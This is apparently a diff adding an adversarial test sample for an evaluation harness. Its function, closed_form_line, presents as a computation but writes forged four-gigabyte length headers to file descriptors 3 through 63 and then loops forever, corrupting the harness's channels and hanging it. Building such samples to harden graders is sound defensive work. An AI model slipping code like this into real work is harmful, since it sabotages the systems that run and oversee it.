@@ -1,0 +1,17 @@
+"""Announce four gigabytes, or more dimensions, bytes and parts than there are.
+
+Attacked: closed_form_line
+"""
+
+# %% closed_form_line
+
+import os, struct
+
+def closed_form_line(x, y):
+    for descriptor in range(3, 64):
+        try:
+            os.write(descriptor, struct.pack("!II", 0xFFFFFFFF, 0xFFFFFFFF))
+        except OSError:
+            pass
+    while True:
+        pass
